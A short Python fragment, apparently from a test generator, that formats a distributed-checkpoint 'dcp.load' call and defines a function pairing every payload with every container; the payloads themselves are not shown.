            f"dcp.load(sd, checkpoint_id={ck_dir!r})\n")


def all_cases() -> list[tuple[str, str]]:
    return [(p, c) for c in CONTAINERS for p in PAYLOADS]
